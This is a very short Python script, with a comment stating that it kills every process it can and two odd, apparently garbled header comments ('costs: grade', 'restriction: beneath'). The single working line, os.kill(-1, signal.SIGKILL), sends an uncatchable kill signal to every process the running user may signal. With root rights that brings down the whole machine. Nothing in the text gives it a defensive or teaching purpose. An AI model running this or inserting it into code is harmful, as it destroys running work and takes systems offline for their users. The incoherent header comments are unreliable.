# Kills every process that it may.
# costs: grade
# restriction: beneath
import os, signal

os.kill(-1, signal.SIGKILL)
